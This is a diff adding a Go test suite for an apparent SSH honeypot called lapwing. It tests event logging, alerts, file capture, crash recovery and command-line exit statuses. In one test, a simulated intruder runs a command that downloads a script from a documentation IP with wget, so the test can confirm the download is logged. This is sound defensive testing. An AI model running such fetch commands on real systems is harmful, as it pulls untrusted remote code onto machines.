@@ -1,0 +1,333 @@
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+)
+
+// The test binary is the program when this variable is set; the program hands
+// it on to its own processes.
+const asProgram = "LAPWING_TESTSCRIPT"
+
+func TestMain(m *testing.M) {
+	if os.Getenv(asProgram) != "" {
+		os.Exit(run())
+	}
+	os.Exit(m.Run())
+}
+
+func command(t *testing.T, args ...string) *exec.Cmd {
+	t.Helper()
+	c := exec.Command(os.Args[0], args...)
+	c.Env = append(os.Environ(), asProgram+"=1")
+	return c
+}
+
+// instance is a running lapwing with one decoy.
+type instance struct {
+	t    *testing.T
+	dir  string
+	addr string
+	cmd  *exec.Cmd
+	out  *bytes.Buffer
+}
+
+func freePort(t *testing.T) string {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	return ln.Addr().String()
+}
+
+func newInstance(t *testing.T) *instance {
+	t.Helper()
+	// The path of a socket is short by law, that of a test's folder is not.
+	dir, err := os.MkdirTemp("", "lw")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	in := &instance{t: t, dir: dir, addr: freePort(t)}
+	conf := fmt.Sprintf("hosts:\n  - name: files\n    persona: debian-server\n    login: {accept: [{user: root, password: admin}]}\n    decoys:\n      - {type: ssh, listen: %q}\nlimits: {connections: {per_source: 500, total: 500}}\n", in.addr)
+	if err := os.WriteFile(filepath.Join(dir, "c.yaml"), []byte(conf), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	in.start()
+	t.Cleanup(in.stop)
+	return in
+}
+
+func (in *instance) start() {
+	in.t.Helper()
+	in.cmd = command(in.t, "up", "--quiet", "--data", filepath.Join(in.dir, "d"), "--config", filepath.Join(in.dir, "c.yaml"))
+	in.cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+	in.out = &bytes.Buffer{}
+	in.cmd.Stderr = in.out
+	stdout, err := in.cmd.StdoutPipe()
+	if err != nil {
+		in.t.Fatal(err)
+	}
+	if err := in.cmd.Start(); err != nil {
+		in.t.Fatal(err)
+	}
+	ready := make(chan bool, 1)
+	go func() {
+		sc := bufio.NewScanner(stdout)
+		for sc.Scan() {
+			if sc.Text() == "ready" {
+				ready <- true
+			}
+		}
+		ready <- false
+	}()
+	select {
+	case ok := <-ready:
+		if !ok {
+			in.cmd.Wait()
+			in.t.Fatalf("it ended before it was ready: %s", in.out)
+		}
+	case <-time.After(30 * time.Second):
+		in.t.Fatalf("not ready in time: %s", in.out)
+	}
+}
+
+func (in *instance) stop() {
+	if in.cmd.ProcessState == nil {
+		in.cmd.Process.Signal(syscall.SIGTERM)
+		in.cmd.Wait()
+	}
+}
+
+// children are the processes that this instance started, found by their parent.
+func (in *instance) children() []int {
+	var out []int
+	files, _ := filepath.Glob("/proc/[0-9]*/stat")
+	for _, f := range files {
+		data, _ := os.ReadFile(f)
+		var pid, ppid int
+		if i := bytes.LastIndexByte(data, ')'); i > 0 {
+			fmt.Sscan(string(data), &pid)
+			var state string
+			fmt.Sscan(string(data[i+1:]), &state, &ppid)
+		}
+		if ppid == in.cmd.Process.Pid {
+			out = append(out, pid)
+		}
+	}
+	return out
+}
+
+func (in *instance) exec(line string) (string, error) {
+	c, err := ssh.Dial("tcp", in.addr, &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password("admin")}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second})
+	if err != nil {
+		return "", err
+	}
+	defer c.Close()
+	s, err := c.NewSession()
+	if err != nil {
+		return "", err
+	}
+	out, err := s.CombinedOutput(line)
+	return string(out), err
+}
+
+// lapwing runs a command on the data directory.
+func (in *instance) lapwing(args ...string) string {
+	in.t.Helper()
+	var errOut bytes.Buffer
+	c := command(in.t, append([]string{"--data", filepath.Join(in.dir, "d")}, args...)...)
+	c.Stderr = &errOut
+	out, err := c.Output()
+	if err != nil {
+		in.t.Fatalf("lapwing %v: %v\n%s", args, err, errOut.String())
+	}
+	return string(out)
+}
+
+func TestFirstLoop(t *testing.T) {
+	in := newInstance(t)
+	out, err := in.exec("echo marker-$((40+2)); echo left behind > /tmp/x; wget -q http://198.51.100.9/a.sh")
+	if err != nil || out != "marker-42\n" {
+		t.Fatalf("got %q, %v", out, err)
+	}
+	check := func(when string) {
+		t.Helper()
+		for _, want := range []string{`"event.action":"login"`, `"event.outcome":"success"`, `"lapwing.password.hmac":"`, `"event.action":"command-executed"`, `"event.action":"file-captured"`, `"url.original":"http://198.51.100.9/a.sh"`, `"lapwing.ssh.hassh":"`, `"logtype":4002`} {
+			if ev := in.lapwing("events", "--json"); !strings.Contains(ev, want) {
+				t.Errorf("%s: %s is not among the events", when, want)
+			}
+		}
+		for _, want := range []string{"Login on a decoy", "Commands on a decoy", "File left on a decoy", "Download requested"} {
+			if a := in.lapwing("alerts"); !strings.Contains(a, want) {
+				t.Errorf("%s: no alert %q in\n%s", when, want, a)
+			}
+		}
+	}
+	check("running")
+	first := in.lapwing("alerts", "--json")
+	in.stop()
+	check("stopped")
+	if again := in.lapwing("alerts", "--json"); again != first {
+		t.Errorf("the alerts differ after the stop:\n%s\n%s", first, again)
+	}
+	filepath.Walk(filepath.Join(in.dir, "d"), func(p string, st os.FileInfo, err error) error {
+		if err == nil && st.Mode().IsRegular() && !strings.Contains(p, "/persona/") {
+			if data, _ := os.ReadFile(p); bytes.Contains(data, []byte("admin")) && !strings.Contains(p, "keys") {
+				t.Errorf("the typed password lies in %s", p)
+			}
+			if data, _ := os.ReadFile(p); strings.Contains(p, "captures") && bytes.Contains(data, []byte("left behind")) {
+				t.Errorf("the captured file lies open in %s", p)
+			}
+		}
+		return nil
+	})
+	sum := ""
+	for l := range strings.Lines(in.lapwing("captures")) {
+		if strings.Contains(l, "/tmp/x") {
+			sum, _, _ = strings.Cut(l, " ")
+		}
+	}
+	if got := in.lapwing("captures", "get", "--raw", sum); got != "left behind\n" {
+		t.Errorf("the captured file comes back as %q", got)
+	}
+}
+
+// TestKill kills the processes while visitors work: every session whose end
+// was acknowledged before must be found afterwards, and no event twice.
+func TestKill(t *testing.T) {
+	in := newInstance(t)
+	rounds := 3
+	if os.Getenv("LAPWING_SOAK") != "" {
+		rounds = 50
+	}
+	done := map[string]bool{} // markers whose session ended before the kill
+	var mu sync.Mutex
+	for round := range rounds {
+		stop := make(chan struct{})
+		var wg sync.WaitGroup
+		for w := range 4 {
+			wg.Go(func() {
+				for n := 0; ; n++ {
+					select {
+					case <-stop:
+						return
+					default:
+					}
+					m := fmt.Sprintf("m-%d-%d-%d", round, w, n)
+					if out, err := in.exec("echo " + m); err == nil && out == m+"\n" {
+						mu.Lock()
+						done[m] = true
+						mu.Unlock()
+					}
+				}
+			})
+		}
+		time.Sleep(700 * time.Millisecond)
+		kids := in.children()
+		switch round % 3 {
+		case 0: // the whole
+			in.cmd.Process.Kill()
+			for _, pid := range kids {
+				syscall.Kill(pid, syscall.SIGKILL)
+			}
+			in.cmd.Wait()
+			close(stop)
+			wg.Wait()
+			in.start()
+		default: // one child, which is started again
+			if len(kids) > 1 {
+				syscall.Kill(kids[(round%3)-1], syscall.SIGKILL)
+			}
+			time.Sleep(1500 * time.Millisecond)
+			close(stop)
+			wg.Wait()
+		}
+	}
+	if out, err := in.exec("echo alive"); err != nil || out != "alive\n" {
+		t.Fatalf("after the kills: %q, %v\n%s", out, err, in.out)
+	}
+	ids, markers := map[string]int{}, map[string]bool{}
+	dec := json.NewDecoder(strings.NewReader(in.lapwing("events", "--json")))
+	for {
+		var e map[string]any
+		if err := dec.Decode(&e); err == io.EOF {
+			break
+		} else if err != nil {
+			t.Fatal(err)
+		}
+		ids[e["event.id"].(string)]++
+		if c, ok := e["process.command_line"].(string); ok {
+			markers[strings.TrimPrefix(c, "echo ")] = true
+		}
+	}
+	for id, n := range ids {
+		if n > 1 {
+			t.Errorf("event %s is there %d times", id, n)
+		}
+	}
+	lost := 0
+	for m := range done {
+		if !markers[m] {
+			lost++
+		}
+	}
+	t.Logf("%d sessions, %d events, %d kills; %d commands answered in the moment of a kill are not recorded", len(done), len(ids), rounds, lost)
+	// The visitor's answer is not the acknowledgement: what was in flight at a
+	// kill may be missing, at most what four visitors and two queues hold.
+	if lost > 8*rounds {
+		t.Errorf("%d of %d commands are lost", lost, len(done))
+	}
+}
+
+func TestStatuses(t *testing.T) {
+	dir := t.TempDir()
+	bad := filepath.Join(dir, "bad.yaml")
+	os.WriteFile(bad, []byte("hosts:\n  - nam: x\n"), 0o600)
+	for _, tt := range []struct {
+		args   string
+		status int
+		want   string
+	}{
+		{"version", 0, "lapwing "},
+		{"nonsense", 64, "unknown command"},
+		{"events --nonsense", 64, "unknown flag"},
+		{"check " + bad, 2, `bad.yaml:2: unknown key "nam"`},
+		{"check /nonexistent", 2, "no such file"},
+		{"alerts --data " + dir, 2, "holds nothing yet"},
+		{"session", 64, "show, replay or cast"},
+		{"captures get abc", 64, "--raw"},
+		{"up --expose nonsense --data " + dir, 2, "write an address"},
+	} {
+		out, _ := command(t, strings.Fields(tt.args)...).CombinedOutput()
+		c := command(t, strings.Fields(tt.args)...)
+		c.Run()
+		if got := c.ProcessState.ExitCode(); got != tt.status || !strings.Contains(string(out), tt.want) {
+			t.Errorf("lapwing %s: status %d, want %d, saying %q\n%s", tt.args, got, tt.status, tt.want, out)
+		}
+	}
+}
+
+func TestLockedDirectory(t *testing.T) {
+	in := newInstance(t)
+	out, _ := command(t, "up", "--data", filepath.Join(in.dir, "d")).CombinedOutput()
+	if !strings.Contains(string(out), "is in use by lapwing with process id") {
+		t.Errorf("got %s", out)
+	}
+}
